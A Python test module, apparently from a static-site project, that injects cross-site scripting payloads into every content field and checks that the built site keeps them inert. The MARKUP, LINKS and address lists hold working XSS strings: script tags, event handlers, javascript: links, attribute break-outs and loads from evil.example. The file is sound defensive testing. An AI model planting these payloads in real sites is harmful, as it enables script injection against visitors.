"""Injection through every content field: nothing a contributor writes becomes live in the site.

Every free-text string field of every kind of content file is found automatically: each example
file is walked together with its JSON Schema (`plugins/ordinarily/schemas/`), and a string field
with no `enum`, `pattern`, `format` or `const` is free text (ids, references, dates, addresses,
colours and enums are not). Optional free-text fields the example leaves out (a service's `alert`,
the accessibility statement's `known_issues`, the `oruk` ids written by the importer) are added.
Hand-written pages contribute the front matter the engine and the theme read as text
(`content_text.PAGE_TEXT_KEYS`: title, description, review owner). Each field gets payloads
(script, event handlers, `javascript:` links in several spellings, attribute lists, frames,
objects, forms, `<base>`, `<meta http-equiv>`, stylesheets, style, images from another origin,
and break-outs from attributes, `<textarea>` and `<script>`), each after a marker that records
the file, the field and the payload, so a failure names exactly what leaked. A field with fewer
values than payloads takes several payloads in each value, first, so that text the engine
shortens (a page's description) still starts with one.

The poisoned example is built with `mkdocs build --strict`, one build per payload group, and
every built HTML page (the pipeline's pages and the Local Offer's off-pipeline pages) is parsed
and compared with the clean build: no script, event handler, `javascript:`/`vbscript:`/
`data:text/html` address, frame, object, form, base, refresh, stylesheet, style or attribute-list
id/class from content, no image from another origin, and no element or attribute the clean site
never has. The data files (checker JSON, finder index, the search index, whose text the theme
shows as HTML, and the Open Referral UK feed under `api/oruk/`) must stay valid JSON with the
text as inert strings. Every marker must still be found as text (or, for fields that are only
data, in the JSON): nothing is silently dropped.

Fields that take Markdown (summaries, intros, details, descriptions, notices, prompts, who does
what, eligibility and how to access, "heard" and "did", how the site was tested) are *sanitised*:
a disallowed tag is removed (a `<script>` or `<style>` with its content) and the rest of the text
stays. Every other field is *escaped*: the payload is shown as the text it is. The marker written
before each payload shows that the contributor's text survives either way.

Address fields (those whose pattern asks for a web or email address) get their own payloads:
`javascript:`, `vbscript:` and `data:` addresses must be refused by `ordinarily validate` with a
`file:line` message, and addresses the pattern accepts but which try to break out of the
attribute they are written into must build and stay inert.

Not covered here: the *bodies* of hand-written pages in `content/`. They are the council's own
trusted pages, in which MkDocs allows raw HTML on purpose; the site's Content Security Policy is
what limits them.
"""

from __future__ import annotations

import itertools
import json
import re
from collections import Counter, defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from ordinarily.checks.content_text import PAGE_TEXT_KEYS
from ordinarily.core.schemas import schema_text
from ordinarily.core.settings import SETTINGS_FILE
from ordinarily.core.yamlfile import parse_yaml
from ordinarily.guide.loader import GUIDE_FILES, NEEDS_DIR
from ordinarily.local_offer.offer_loader import (
    FEEDBACK_FILE,
    ORGANISATIONS_DIR,
    SERVICES_DIR,
    SUMMARY_LIMIT,
    TAXONOMY_FILE,
)
from ordinarily.next_steps.steps_loader import NEXT_STEPS_FILE
from ordinarily.plans.plans_loader import PLAN_KIND, PLANS_DIR
from ordinarily.sitewide.page_files import PAGES_DIR

from conftest import build_site, copy_example, mkdocs, ordinarily

# --- payloads ----------------------------------------------------------------------------------
# `@@` is replaced by the marker. Each payload is written after a bare copy of its marker (the
# witness), so that the marker stays visible when a sanitiser removes the tag and its content.

Payload = tuple[str, str]  # (name, text)

MARKUP: list[Payload] = [
    ("script", "<script>alert('@@')</script>"),
    ("img-onerror", "<img src=x onerror=\"alert('@@')\">"),
    ("svg-onload", "<svg onload=alert('@@')>"),
    ("style-element", "<style>body{background:url(https://evil.example/@@)}</style>"),
    ("style-attribute", "<p style=\"background:url(https://evil.example/@@)\">x</p>"),
    ("object", "<object data=\"https://evil.example/@@.swf\"></object>"),
    ("embed", "<embed src=\"https://evil.example/@@.swf\">"),
    ("form", "<form action=\"https://evil.example/@@\"><button formaction=\"javascript:"
             "alert('@@')\">x</button></form>"),
    ("base", "<base href=\"https://evil.example/@@/\">"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/@@\">"),
    ("link-stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/@@.css\">"),
    ("markdown-image", "![x](https://evil.example/@@.png)"),
    ("iframe", "<iframe src=\"https://evil.example/@@\">"),  # unclosed: it must come last
]
LINKS: list[Payload] = [  # break-outs first: a page's description keeps only the start of a text
    ("double-quote-break-out", "x\" onmouseover=\"alert('@@')\" data-x=\""),
    ("entity-quote-break-out", "x&quot; onmouseover=&quot;alert('@@')&quot; data-x=&quot;"),
    ("single-quote-break-out", "x' onmouseover='alert(\"@@\")' data-x='"),
    ("entity-script", "&lt;script&gt;alert('@@')&lt;/script&gt;"),
    ("textarea-break-out", "</textarea><script>alert('@@')</script>"),
    ("script-break-out", "</script><script>alert('@@')</script>"),
    ("a-javascript", "<a href=\"javascript:alert('@@')\">x</a>"),
    ("a-javascript-newline", "<a href=\"java&#10;script:alert('@@')\">x</a>"),
    ("markdown-javascript", "[x](javascript:alert('@@'))"),
    ("markdown-javascript-case", "[x](JaVaScRiPt:alert('@@'))"),
    ("markdown-javascript-entity", "[x](&#106;avascript:alert('@@'))"),
    ("markdown-javascript-tab", "[x](java&#9;script:alert('@@'))"),
    ("markdown-vbscript", "[x](vbscript:msgbox('@@'))"),
    ("markdown-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@@)"),
    ("markdown-reference-javascript", "[x][r@@]\n\n[r@@]: javascript:alert('@@')"),
    ("autolink-javascript", "<javascript:alert('@@')>"),
    ("attr-list-own-line", "text\n{: onclick=\"alert('@@')\" }"),
    ("attr-list-paragraph-end", "text {: onclick=\"alert('@@')\" }"),
    ("attr-list-id-class", "text {: style=\"color:red\" #id-@@ .class-@@ }"),
]
GROUPS = {"markup": MARKUP, "links": LINKS}

# Addresses a web or email address pattern accepts, but which try to leave the attribute they
# are written into.
ADDRESS_BREAK_OUTS: list[Payload] = [
    ("url-double-quote", "https://evil.example/@@\"><script>alert('@@')</script>"),
    ("url-handler", "https://evil.example/@@\"onmouseover=\"alert('@@')\"x=\""),
    ("url-single-quote", "https://evil.example/@@'onmouseover='alert(1)'x='"),
    ("url-spaced-handler", "https://evil.example/@@\" onmouseover=\"alert('@@')"),
    ("url-textarea", "https://evil.example/@@</textarea><script>alert('@@')</script>"),
    ("email-script", "@@\"><script>alert('@@')</script>@evil.example"),
    ("email-handler", "@@\"onmouseover=\"alert('@@')\"@evil.example"),
]
ADDRESS_GROUPS = {"links": ADDRESS_BREAK_OUTS}  # built with the links: they reach other fields
# Addresses in schemes that must never become links.
UNSAFE_ADDRESSES: list[Payload] = [
    ("javascript", "javascript:alert('@@')"),
    ("javascript-case", "JaVaScRiPt:alert('@@')"),
    ("javascript-space", " javascript:alert('@@')"),
    ("vbscript", "vbscript:msgbox('@@')"),
    ("data-html", "data:text/html,<script>alert('@@')</script>"),
]

MARKER = re.compile(r"xq(\d{6})qx")
SITE_URL = "https://send.example.org.uk/"

# Free-text settings that configure tools rather than say anything on the site.
NOT_SHOWN = {
    ("settings", "site.language"): "unused: the theme's language is fixed",
    ("settings", "editions.tags"): "a git tag pattern, read when publishing",
    ("settings", "editions.pages_branch"): "a git branch name, read when publishing",
    ("settings", "checks.words"): "the word list's file name, read by check-content",
    ("taxonomy", "labels.tier"): "shown only when the guide has one tier or a need has no "
                                 "provision at a tier, and the example has neither",
}
# Free-text fields that are not text at all but name a file or folder of the project, so they
# are never added, and never poisoned where the example has them.
NOT_ADDED = {
    ("settings", "branding.logo"): "a file the theme copies: a missing one fails the build",
    ("settings", "branding.favicon"): "a file the theme copies: a missing one fails the build",
    ("settings", "editions.previous"): "the previous edition's folder: a missing one fails the "
                                       "build (test_previous_edition.py)",
}
# The checker's file gives its observations in themes (as the example does) or as one flat list,
# never both: builds named "<group>+flat-checker" turn the example's themes into the flat list
# first, so that form is poisoned too.
FLAT_CHECKER = "+flat-checker"
FLAT_FIELDS = {("checker", "observations.text")}


# --- content files and their schemas ------------------------------------------------------------


def kind_of(rel: str) -> str | None:
    """The schema kind of a content file (as the loaders map them), or None."""
    if rel == SETTINGS_FILE:
        return "settings"
    for kind, name in GUIDE_FILES.items():
        if rel == f"{NEEDS_DIR}/{name}":
            return kind
    if rel.startswith(f"{NEEDS_DIR}/") and rel.count("/") == 2:
        return "need"
    if rel == NEXT_STEPS_FILE:
        return "next-steps"
    if rel.startswith(f"{PLANS_DIR}/") and rel.count("/") == 1:
        return PLAN_KIND
    if rel == TAXONOMY_FILE:
        return "offer-taxonomy"
    if rel == FEEDBACK_FILE:
        return "you-said-we-did"
    if rel.startswith(f"{SERVICES_DIR}/"):
        return "service"
    if rel.startswith(f"{ORGANISATIONS_DIR}/"):
        return "organisation"
    return None


def content_files(root: Path) -> list[tuple[str, str]]:
    found = [SETTINGS_FILE]
    found += sorted(p.relative_to(root).as_posix()
                    for folder in ("needs", "local-offer", PLANS_DIR)
                    for p in (root / folder).rglob("*.yml"))
    return [(rel, kind) for rel in found if (kind := kind_of(rel))]


@cache
def schema(kind: str) -> dict:
    return json.loads(schema_text(kind))


def resolve(node: dict, kind: str) -> dict:
    while "$ref" in node:
        name = node["$ref"].rsplit("/", 1)[-1]
        node = {**schema(kind)["$defs"][name], **{k: v for k, v in node.items() if k != "$ref"}}
    return node


def is_text(node: dict) -> bool:
    return node.get("type") == "string" and not {"enum", "pattern", "format", "const"} & set(node)


def is_address(node: dict) -> bool:
    pattern = node.get("pattern", "") if node.get("type") == "string" else ""
    return "http" in pattern or "@" in pattern


def label(where: tuple) -> str:
    """A field's place with list positions left out: 'provision.detail'."""
    return ".".join(str(p) for p in where if isinstance(p, str))


def strings(data: Any, node: dict, kind: str, where: tuple = ()) -> Iterator[tuple[tuple, dict]]:
    """Every string value in `data` with the (resolved) schema that describes it."""
    node = resolve(node, kind)
    for key in ("oneOf", "anyOf"):
        for branch in node.get(key, ()):
            branch = resolve(branch, kind)
            fits = {"string": str, "array": list, "object": dict}.get(branch.get("type"))
            if fits and isinstance(data, fits):
                yield from strings(data, branch, kind, where)
                return
    if isinstance(data, dict):
        properties = node.get("properties", {})
        for k, v in data.items():
            if k in properties:
                yield from strings(v, properties[k], kind, (*where, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from strings(v, node.get("items", {}), kind, (*where, i))
    elif isinstance(data, str):
        yield where, node


def schema_text_fields(node: dict, kind: str, where: tuple = ()) -> Iterator[str]:
    """Every free-text field a kind of file can have, by label."""
    node = resolve(node, kind)
    for key in ("oneOf", "anyOf"):
        for branch in node.get(key, ()):
            yield from schema_text_fields(branch, kind, where)
    for k, sub in node.get("properties", {}).items():
        yield from schema_text_fields(sub, kind, (*where, k))
    if "items" in node:
        yield from schema_text_fields(node["items"], kind, where)
    if is_text(node):
        yield label(where)


def add_missing(data: Any, node: dict, kind: str, where: tuple = ()) -> None:
    """Give `data` the optional free-text fields its schema allows and it leaves out: text
    fields, lists of text, and objects or lists of objects made only of text, dates and
    optional fields (each with placeholder text that is poisoned afterwards)."""
    node = resolve(node, kind)
    if isinstance(data, list):
        for i, item in enumerate(data):
            add_missing(item, node.get("items", {}), kind, (*where, i))
        return
    if not isinstance(data, dict):
        return
    for k, sub in node.get("properties", {}).items():
        if k in data:
            add_missing(data[k], sub, kind, (*where, k))
        elif (kind, label((*where, k))) not in NOT_ADDED:
            value = _made_up(resolve(sub, kind), kind)
            if value is not None:
                data[k] = value


_ADDED = itertools.count(1)


def _made_up(node: dict, kind: str) -> Any:
    if is_text(node):
        return f"added-text-{next(_ADDED)}"  # also a safe id (the oruk ids are free text)
    if node.get("type") == "string" and node.get("pattern", "").startswith("^[0-9]{4}"):
        return "2027-01-01"
    if node.get("type") == "array" and "minItems" not in node:
        item = _made_up(resolve(node.get("items", {}), kind), kind)
        return None if item is None else [item]
    if node.get("type") == "object":
        made = {}
        for k, sub in node.get("properties", {}).items():
            value = _made_up(resolve(sub, kind), kind)
            if value is None and k in node.get("required", ()):
                return None
            if value is not None and (is_text(resolve(sub, kind)) or k in node.get("required", ())):
                made[k] = value
        return made if any(isinstance(v, str) and v.startswith("added-text-")
                           for v in made.values()) else None
    return None


def get(data: Any, where: tuple) -> Any:
    for part in where:
        data = data[part]
    return data


def put(data: Any, where: tuple, value: Any) -> None:
    get(data, where[:-1])[where[-1]] = value


# --- poisoning ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Spot:
    file: str
    where: tuple
    kind: str
    payload: str

    @property
    def field(self) -> str:
        return label(self.where)

    def __str__(self) -> str:
        return f"{self.file} {'.'.join(map(str, self.where))} [{self.payload}]"


@dataclass
class Poisoning:
    """What was written where: marker number -> spot."""

    spots: dict[int, Spot] = field(default_factory=dict)

    def marker(self, spot: Spot) -> str:
        number = len(self.spots) + 1
        self.spots[number] = spot
        return f"xq{number:06d}qx"

    def text(self, spot: Spot, payload: str) -> str:
        m = self.marker(spot)
        return f"{m} {payload.replace('@@', m)}"

    def spot(self, found: str) -> Spot:
        return self.spots[int(MARKER.search(found).group(1))]

    def fields(self) -> set[tuple[str, str]]:
        return {(s.kind, s.field) for s in self.spots.values()}


def limit_of(kind: str, field_label: str, node: dict) -> int | None:
    if kind == "service" and field_label == "summary":
        return SUMMARY_LIMIT
    return node.get("maxLength")


@dataclass
class Slot:
    """One string value to poison."""

    file: str
    kind: str
    where: tuple
    node: dict
    payloads: list[Payload] = field(default_factory=list)


def poison_values(slots: list[Slot], payloads: list[Payload], original: dict,
                  poisoning: Poisoning, address: bool = False) -> dict[str, Any]:
    """Spread the payloads over the slots of each field (each payload reaches every field at
    least once; a field with fewer values than payloads takes several in each value)."""
    by_field: dict[tuple, list[Slot]] = defaultdict(list)
    for slot in slots:
        by_field[slot.kind, label(slot.where)].append(slot)
    for i, group in enumerate(by_field.values()):
        pattern = group[0].node.get("pattern", "")
        fits = [p for p in payloads
                if not address or re.search(pattern, p[1].replace("@@", "xq000000qx"))]
        if address and fits:  # one address per value: vary which comes first
            fits = fits[i % len(fits):] + fits[:i % len(fits)]
        for j, payload in enumerate(fits):
            group[j % len(group)].payloads.append(payload)
    for slot in slots:
        if not slot.payloads:
            continue
        data = original[slot.file]
        if address:
            name, text = slot.payloads[0]
            marker = poisoning.marker(Spot(slot.file, slot.where, slot.kind, name))
            put(data, slot.where, text.replace("@@", marker))
            continue
        pieces = [poisoning.text(Spot(slot.file, slot.where, slot.kind, name), text)
                  for name, text in slot.payloads]
        value = "\n\n".join(pieces) + "\n\n" + get(data, slot.where).strip()
        limit = limit_of(slot.kind, label(slot.where), slot.node)
        if limit and len(value) > limit:
            value = "\n\n".join(pieces)
            assert len(value) <= limit, f"{slot.file} {slot.where}: payloads too long"
        put(data, slot.where, value)
    return original


def read_content(root: Path) -> tuple[dict[str, Any], list[Slot], list[Slot]]:
    """The data of every content file (with missing optional text fields added), its free-text
    slots and its address slots."""
    data, text, address = {}, [], []
    for rel, kind in content_files(root):
        doc = parse_yaml((root / rel).read_text("utf-8"), rel).data
        add_missing(doc, schema(kind), kind)
        data[rel] = doc
        for where, node in strings(doc, schema(kind), kind):
            if is_text(node) and (kind, label(where)) not in NOT_ADDED:
                text.append(Slot(rel, kind, where, node))
            elif is_address(node):
                address.append(Slot(rel, kind, where, node))
    return data, text, address


def write_content(root: Path, data: dict[str, Any]) -> None:
    for rel, doc in data.items():
        (root / rel).write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True,
                                               width=10_000), "utf-8")


def poison_pages(root: Path, payloads: list[Payload], poisoning: Poisoning) -> None:
    """Poison the front matter the engine and the theme read as text, in every hand-written
    page (adding the keys a page leaves out)."""
    for path in sorted((root / PAGES_DIR).rglob("*.md")):
        rel = path.relative_to(root).as_posix()
        text = path.read_text("utf-8")
        match = re.match(r"---\n(.*?)\n---\n", text, re.S)
        meta = yaml.safe_load(match.group(1)) if match else {}
        body = text[match.end():] if match else text
        for key in PAGE_TEXT_KEYS:
            pieces = [poisoning.text(Spot(rel, (key,), "page", name), p) for name, p in payloads]
            meta[key] = "\n\n".join(pieces) + "\n\n" + str(meta.get(key, "Added text"))
        path.write_text("---\n" + yaml.safe_dump(meta, sort_keys=False, allow_unicode=True,
                                                 width=10_000) + "---\n" + body, "utf-8")


def poison_project(root: Path, group: str) -> Poisoning:
    """Poison every free-text field and front matter text key with the group's payloads (and,
    in the group that has them, every address field with an address that tries to break out;
    not the site's own address, which every page uses: a test of its own has it)."""
    poisoning = Poisoning()
    data, text, address = read_content(root)
    data = poison_values(text, GROUPS[group], data, poisoning)
    if group in ADDRESS_GROUPS:
        address = [s for s in address if label(s.where) != "site.url"]
        data = poison_values(address, ADDRESS_GROUPS[group], data, poisoning, address=True)
    write_content(root, data)
    poison_pages(root, GROUPS[group], poisoning)
    return poisoning


# --- reading the built site ---------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster",
                  "background", "cite", "codebase", "srcset", "ping", "manifest", "lowsrc"}
UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
ACTIVE = ("iframe", "object", "embed", "form", "base", "link", "meta", "svg", "script", "style",
          "frame", "applet")
RISKY = ("script", "iframe", "object", "embed", "form", "base", "link", "style", "frame",
         "frameset", "applet", "svg", "math", "meta-refresh", "style-attribute", "on-attribute")


class Scan(HTMLParser):
    """The elements, attributes, script and style text and visible text of one HTML page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str]]]] = []
        self.raw: list[tuple[str, dict, str]] = []  # (script|style, attributes, text)
        self.text: list[str] = []
        self._raw: tuple[str, dict] | None = None
        self._buffer: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attrs = [(k, v or "") for k, v in attrs]
        self.elements.append((tag, attrs))
        if tag in ("script", "style"):
            self._raw, self._buffer = (tag, dict(attrs)), []
        elif tag in ("title", "textarea"):  # RCDATA to a browser: text up to its end tag
            self.set_cdata_mode(tag)

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.elements.append((tag, [(k, v or "") for k, v in attrs]))

    def handle_data(self, data: str) -> None:
        (self._buffer if self._raw else self.text).append(data)

    def handle_endtag(self, tag: str) -> None:
        if self._raw and tag == self._raw[0]:
            self.raw.append((*self._raw, "".join(self._buffer)))
            self._raw = None

    def risky(self) -> Counter:
        """How many elements and attributes of each risky sort the page has."""
        count: Counter = Counter()
        for tag, attrs in self.elements:
            if tag in RISKY:
                count[tag] += 1
            names = {k for k, _ in attrs}
            if tag == "meta" and "http-equiv" in names:
                count["meta-refresh"] += 1
            if "style" in names:
                count["style-attribute"] += 1
            count["on-attribute"] += sum(1 for k in names if k.startswith("on"))
        return count

    def texts_of(self, sort: str) -> str:
        """The attribute names and values (and script or style text) of the elements counted
        under one sort."""
        texts = [text for kind, _, text in self.raw if kind == sort]
        for tag, attrs in self.elements:
            names = {k for k, _ in attrs}
            if (tag == sort) or (sort == "meta-refresh" and tag == "meta" and "http-equiv" in
                                 names) or (sort == "style-attribute" and "style" in names) or (
                    sort == "on-attribute" and any(k.startswith("on") for k in names)):
                texts += [f"{k} {v}" for k, v in attrs]
        return " ".join(texts)

    def shapes(self) -> set[tuple[str, str]]:
        return {(tag, k) for tag, attrs in self.elements for k, _ in attrs} | {
            (tag, "") for tag, _ in self.elements}


def scan(html: str) -> Scan:
    parser = Scan()
    parser.feed(html)
    parser.close()
    return parser


def unsafe_url(value: str) -> bool:
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", value).lower()
    return squeezed.startswith(UNSAFE_SCHEMES)


def foreign(value: str) -> bool:
    parts = urlsplit(value.strip())
    return bool(parts.netloc) and parts.netloc != urlsplit(SITE_URL).netloc


@dataclass
class Site:
    """A built site, read once."""

    root: Path
    pages: dict[str, Scan]
    json: dict[str, Any]
    json_errors: list[str]

    @classmethod
    def read(cls, root: Path) -> Site:
        pages = {p.relative_to(root).as_posix(): scan(p.read_text("utf-8"))
                 for p in sorted(root.rglob("*.html"))}
        data, errors = {}, []
        for p in sorted(root.rglob("*.json")):
            rel = p.relative_to(root).as_posix()
            try:
                data[rel] = json.loads(p.read_text("utf-8"))
            except ValueError as exc:
                errors.append(f"{rel}: not valid JSON ({exc})")
        return cls(root, pages, data, errors)


@cache
def clean_site(root: Path) -> Site:
    return Site.read(root)


def json_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from json_strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from json_strings(v)


@dataclass(frozen=True, order=True)
class Leak:
    """One thing content made live: what, on which page or file, and from which fields."""

    what: str
    where: str
    fields: frozenset[tuple[str, str]]  # (kind, field), kind 'page' for front matter
    payloads: frozenset[str]


# The change summary's own marks round words taken out and put in: the poisoned build compares
# more changed words with the previous edition than the clean one, so /changes/ may have one the
# clean site lacks (content never makes them: neither is an allowed tag).
CHANGES_PAGE = "changes/index.html"
CHANGE_MARKS = {("del", ""), ("ins", "")}


def live_markup(site: Site, clean: Site, poisoning: Poisoning) -> list[Leak]:
    """Everything content made live in the site."""
    leaks = []

    def leak(what: str, where: str, text: str) -> None:
        spots = [poisoning.spot(m.group(0)) for m in MARKER.finditer(text)]
        leaks.append(Leak(what, where, frozenset((s.kind, s.field) for s in spots),
                          frozenset(s.payload for s in spots)))

    clean_shapes = set().union(*(s.shapes() for s in clean.pages.values()))
    for rel, page in site.pages.items():
        before = clean.pages.get(rel)
        if before is None:
            leak("a page the clean build does not have", rel, "")
            continue
        for sort in page.risky() - before.risky():
            leak(f"more {sort} than the clean build", rel, page.texts_of(sort))
        for kind, attrs, text in page.raw:
            data = kind == "script" and attrs.get("type") == "application/json"
            if not data and (MARKER.search(text) or MARKER.search(attrs.get("src", ""))):
                leak(f"<{kind}> holding content", rel, text + attrs.get("src", ""))
            if data:
                try:
                    json.loads(text)
                except ValueError:
                    leak("a JSON <script> that no longer parses", rel, text)
        for tag, attrs in page.elements:
            for name, value in attrs:
                if name.startswith("on") and MARKER.search(value):
                    leak("an event handler from content", rel, value)
                if name in URL_ATTRIBUTES and unsafe_url(value):
                    leak(f"an unsafe address in <{tag} {name}>", rel, value)
                if name in ("src", "srcset", "poster", "data", "background") and foreign(value):
                    leak(f"<{tag} {name}> loading from another origin", rel, value)
                if name == "style" and MARKER.search(value) or name in ("id", "class") and \
                        re.search(r"(id|class)-xq\d{6}qx", value):
                    leak(f"a {name} attribute from an attribute list", rel, value)
                if tag in ACTIVE and MARKER.search(value) and not (
                        tag == "meta" and dict(attrs).get("name") == "description"):
                    leak(f"<{tag}> from content", rel, value)
        marks = CHANGE_MARKS if rel == CHANGES_PAGE else set()
        for tag, name in sorted(page.shapes() - clean_shapes - marks):
            # the elements that have the new tag or attribute, with their names and values
            found = [tag] + [f"{n} {v}" for t, attrs in page.elements if t == tag
                             and (not name or name in dict(attrs)) for n, v in attrs]
            found += [text for kind, _, text in page.raw if kind == tag]
            leak(f"<{tag}{' ' + name if name else ''}>, which the clean site never has", rel,
                 " ".join(found))
    for error in site.json_errors:
        leak(error, "", "")
    clean_search = search_shapes(clean)
    for where, fragment, text in search_fragments(site):
        for tag, name in sorted(fragment.shapes() - clean_search):
            leak(f"<{tag}{' ' + name if name else ''}> in the search index, which the theme "
                 "shows as HTML", where, text)
    return leaks


def search_fragments(site: Site) -> Iterator[tuple[str, Scan, str]]:
    """Each title and text of the search index, read as the HTML the theme makes of it."""
    for rel, data in site.json.items():
        if rel.endswith("search_index.json"):
            for doc in data.get("docs", ()):
                for key in ("title", "text"):
                    text = str(doc.get(key, ""))
                    yield f"{rel} {doc.get('location')} {key}", scan(text), text


def search_shapes(site: Site) -> set[tuple[str, str]]:
    return set().union(*(fragment.shapes() for _, fragment, _ in search_fragments(site)))


def report(leaks: list[Leak]) -> str:
    """Leaks by field: what each made live, with which payloads, and where for example."""
    by_field: dict[str, tuple[set, set, list]] = defaultdict(lambda: (set(), set(), []))
    for leak in leaks:
        for kind, name in sorted(leak.fields) or [("?", "no marker")]:
            whats, payloads, where = by_field[f"{kind} {name}"]
            whats.add(leak.what)
            payloads.update(leak.payloads)
            where.append(leak.where)
    return f"{len(leaks)} leaks from {len(by_field)} fields:\n" + "\n".join(
        f"- {name}: {'; '.join(sorted(whats))} [payloads: {', '.join(sorted(payloads))}] "
        f"(in {len(set(where))} places, such as {where[0]})"
        for name, (whats, payloads, where) in sorted(by_field.items()))


def visible_markers(site: Site) -> tuple[set[int], set[int]]:
    """Marker numbers found as text on a page (or in the attributes that are read out or
    shown: titles, labels, alternative text, the page's description), and those found in
    JSON data."""
    shown = set()
    for page in site.pages.values():
        texts = list(page.text)
        for tag, attrs in page.elements:
            found = dict(attrs)
            texts += [v for n, v in attrs if n in ("title", "aria-label", "alt")]
            if tag == "meta" and found.get("name") == "description":
                texts.append(found.get("content", ""))
        shown |= {int(m.group(1)) for m in MARKER.finditer("\n".join(texts))}
    data = {int(m.group(1)) for value in site.json.values() for s in json_strings(value)
            for m in MARKER.finditer(s)}
    return shown, data


# --- holes outside the engine's content pipeline, still open --------------------------------------

# Each is a field whose text reaches the theme unescaped through code this test does not own; the
# test for it is expected to fail until the named file escapes it (then remove the entry).
# --- fixtures -----------------------------------------------------------------------------------

@dataclass
class Build:
    name: str
    project: Path
    poisoning: Poisoning
    site: Site
    leaks: list[Leak] = field(default_factory=list)


@pytest.fixture(scope="module")
def builds(tmp_path_factory: pytest.TempPathFactory, site: Path) -> Any:
    """The poisoned builds, each made once when a test first asks for it."""
    made: dict[str, Build] = {}
    cleans = {"": clean_site(site)}

    def project_for(name: str, flat: bool) -> Path:
        project = copy_example(tmp_path_factory.mktemp(name) / "project")
        if flat:
            flatten_checker(project)
        return project

    def clean(flat: str) -> Site:
        """The unpoisoned site to compare with (for the flat checker list, built once)."""
        if flat not in cleans:
            cleans[flat] = clean_site(build_site(project_for("clean-flat", True)))
        return cleans[flat]

    def get(name: str) -> Build:
        if name not in made:
            group, flat, _ = name.partition(FLAT_CHECKER)
            project = project_for(f"poisoned-{name}", bool(flat))
            poisoning = poison_project(project, group)
            result = mkdocs(project, "build", "--strict")
            assert result.returncode == 0, result.stderr[-5000:]
            assert "Traceback" not in result.stderr
            made[name] = built = Build(name, project, poisoning, Site.read(project / "site"))
            built.leaks = live_markup(built.site, clean(flat), poisoning)
        return made[name]

    return get


def flatten_checker(root: Path) -> None:
    """The checker's themes turned into one flat list of observations, in the same order."""
    path = root / NEEDS_DIR / GUIDE_FILES["checker"]
    data = yaml.safe_load(path.read_text("utf-8"))
    data["observations"] = [o for theme in data.pop("themes") for o in theme["observations"]]
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), "utf-8")


# --- tests --------------------------------------------------------------------------------------


def test_a_flat_checker_list_is_poisoned_and_inert(builds: Any) -> None:
    built = builds("markup" + FLAT_CHECKER)
    assert built.poisoning.fields() >= FLAT_FIELDS
    assert not built.leaks, report(built.leaks)


@pytest.mark.parametrize("group", GROUPS)
def test_every_free_text_field_is_poisoned(builds: Any, group: str) -> None:
    """Each free-text field the schemas define carries every payload of the group, and so does
    each front matter text key of every hand-written page."""
    built = builds(group)
    kinds = {kind for _, kind in content_files(built.project)}
    defined = {(kind, f) for kind in kinds for f in schema_text_fields(schema(kind), kind)}
    reached = built.poisoning.fields()
    missing = defined - reached - set(NOT_ADDED) - FLAT_FIELDS  # flat: a test of its own
    assert not missing, f"free-text fields never poisoned: {sorted(missing)}"
    assert {("page", k) for k in PAGE_TEXT_KEYS} <= reached
    per_field = defaultdict(set)
    everything = {name for name, _ in GROUPS[group]}
    for spot in built.poisoning.spots.values():
        if spot.payload in everything:
            per_field[spot.kind, spot.field].add(spot.payload)
    short = {key: everything - names for key, names in per_field.items() if names != everything}
    assert not short, f"fields missing payloads: {short}"
    if group in ADDRESS_GROUPS:  # every address field that accepts a break-out has one
        _, _, address = read_content(built.project)
        accepting = {(s.kind, label(s.where)) for s in address if label(s.where) != "site.url"
                     and any(re.search(s.node["pattern"], p) for _, p in ADDRESS_GROUPS[group])}
        assert accepting and accepting <= reached, accepting - reached


@pytest.mark.parametrize("name", GROUPS)
def test_no_content_is_live_in_the_built_site(builds: Any, name: str) -> None:
    built = builds(name)
    assert built.poisoning.spots
    assert not built.leaks, report(built.leaks)


def not_shown(key: tuple[str, str]) -> bool:
    return key in NOT_SHOWN or key[1].endswith("oruk.id")


@pytest.mark.parametrize("group", GROUPS)
def test_nothing_written_is_silently_dropped(builds: Any, group: str) -> None:
    """Every payload's marker is found as text on some page; a value found only in the data
    files (the feed, the finder and search indexes, which shorten long text) needs its start
    found there."""
    built = builds(group)
    shown, data = visible_markers(built.site)
    values: dict[tuple, list[int]] = defaultdict(list)
    for number, spot in built.poisoning.spots.items():
        values[spot.file, spot.where].append(number)
    dropped = defaultdict(set)
    addresses = {name for group in ADDRESS_GROUPS.values() for name, _ in group}
    for numbers in values.values():
        spot = built.poisoning.spots[numbers[0]]
        if not_shown((spot.kind, spot.field)) or spot.payload in addresses:
            continue  # an address is a link's target, not text
        if any(n in shown for n in numbers) or numbers[0] not in data:
            lost = [n for n in numbers if n not in shown and n not in data]
        else:
            lost = []
        dropped[spot.kind, spot.field].update(built.poisoning.spots[n].payload for n in lost)
    dropped = {k: v for k, v in dropped.items() if v}
    assert not dropped, "text found nowhere in the site: " + "; ".join(
        f"{k}: {sorted(v)}" for k, v in sorted(dropped.items()))


@pytest.mark.parametrize("name", GROUPS)
def test_data_files_keep_content_as_strings(builds: Any, name: str) -> None:
    """Every JSON file (checker, finder index, search index, Open Referral UK feed) parses, and
    each marker in it is inside a string."""
    site = builds(name).site
    assert not site.json_errors
    for rel, value in site.json.items():
        raw = set(MARKER.findall((site.root / rel).read_text("utf-8")))
        inside = {m for s in json_strings(value) for m in MARKER.findall(s)}
